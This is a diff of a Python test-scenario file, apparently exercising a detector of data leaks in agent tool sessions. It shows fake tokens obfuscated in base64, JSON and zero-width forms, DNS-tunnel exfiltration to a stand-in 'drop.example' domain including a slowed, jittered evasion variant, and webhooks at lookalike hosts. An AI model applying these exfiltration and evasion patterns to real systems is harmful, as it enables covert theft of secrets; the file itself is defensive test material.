@@ -77,7 +77,12 @@ async def hides_secrets(options) -> list[Recorder]:
     forge = issued(5, "ghp" + "_", string.ascii_letters + string.digits, 36)
     inner = json.dumps({"settings": {"FORGE_TOKEN": forge}})
     whole = base64.b64encode(f"# settings of the workshop's site\nFORGE_TOKEN={forge}\n".encode()).decode()
-    texts = [whole, base64.b64encode(forge.encode()).decode(), json.dumps({"body": inner}), forge[:20] + "\u200b" + forge[20:]]
+    texts = [
+        whole,
+        base64.b64encode(forge.encode()).decode(),
+        json.dumps({"body": inner}),
+        forge[:20] + "\u200b" + forge[20:],
+    ]
     return await call_all(options, [("open_ticket", {"title": "deploy", "text": text}) for text in texts])
 
 
@@ -136,7 +141,8 @@ async def takes_logs(options) -> list[Recorder]:
 
 
 def prose(seed: int, characters: int) -> str:
-    source, words = random.Random(seed), "the quay was calm and boats came in with mackerel before noon while rain held off".split()
+    source = random.Random(seed)
+    words = "the quay was calm and boats came in with mackerel before noon while rain held off".split()
     text = ""
     while len(text) < characters:
         text += source.choice(words) + " "
@@ -247,28 +253,47 @@ def look_up(name: str) -> None:
         pass
 
 
-async def look_up_all(options, names: list[str]) -> list[Recorder]:
+async def look_up_all(options, names: list[str], slowly: bool = False) -> list[Recorder]:
     """Beside a session: a call, names, and another call."""
+    source = random.Random(10)
     async with at_work(options) as (session, recorders):
         await session.call_tool("read_file", {"path": "README.md"})
         for name in names:
             await anyio.to_thread.run_sync(look_up, name)
+            await anyio.sleep(source.uniform(0.32, 0.58) if slowly else 0)
         await session.call_tool("read_file", {"path": "CHANGES.md"})
     return recorders
 
 
-async def tunnels(options) -> list[Recorder]:
-    """A program of the client's machine that sends what it has stolen, enciphered, in the names of hosts."""
-    text = base64.b32encode(random.Random(8).randbytes(6_000)).decode().rstrip("=").lower()
+def tunnel(size: int) -> list[str]:
+    """Names that hold so many bytes of what is enciphered."""
+    text = base64.b32encode(random.Random(8).randbytes(size)).decode().rstrip("=").lower()
     pieces = [text[start : start + 116] for start in range(0, len(text), 116)]
     names = [f"{piece[:58]}.{piece[58:]}.{number:x}.t.drop.example" for number, piece in enumerate(pieces)]
-    return await look_up_all(options, [name.replace("..", ".") for name in names])
+    return [name.replace("..", ".") for name in names]
+
+
+def pieces(number: int) -> list[str]:
+    source = random.Random(9)
+    return [f"{source.getrandbits(96):024x}.img.cdn.example" for _ in range(number)]
+
+
+async def tunnels(options) -> list[Recorder]:
+    """A program of the client's machine that sends what it has stolen, enciphered, in the names of hosts."""
+    return await look_up_all(options, tunnel(6_000))
+
+
+async def tunnels_slowly(options) -> list[Recorder]:
+    return await look_up_all(options, tunnel(7_200), slowly=True)
 
 
 async def loads_pieces(options) -> list[Recorder]:
     """A site that keeps its pictures on many hosts of a content network, named by what is in them."""
-    source = random.Random(9)
-    return await look_up_all(options, [f"{source.getrandbits(96):024x}.img.cdn.example" for _ in range(90)])
+    return await look_up_all(options, pieces(90))
+
+
+async def loads_now_and_then(options) -> list[Recorder]:
+    return await look_up_all(options, pieces(100), slowly=True)
 
 
 async def drops(options) -> list[Recorder]:
@@ -283,7 +308,12 @@ async def drops(options) -> list[Recorder]:
 
 async def registers(options) -> list[Recorder]:
     """Has events told to hosts of its own whose names resemble those, and asks about one of them in words."""
-    hosts = ["webhook.site.example", "mywebhook.site.example", "hooks.example/webhook.site", "discord.com/channels/81/92"]
+    hosts = [
+        "webhook.site.example",
+        "mywebhook.site.example",
+        "hooks.example/webhook.site",
+        "discord.com/channels/81/92",
+    ]
     async with at_work(options) as (session, recorders):
         for host in hosts:
             await session.call_tool("set_webhook", {"event": "saved", "url": f"https://{host}"})
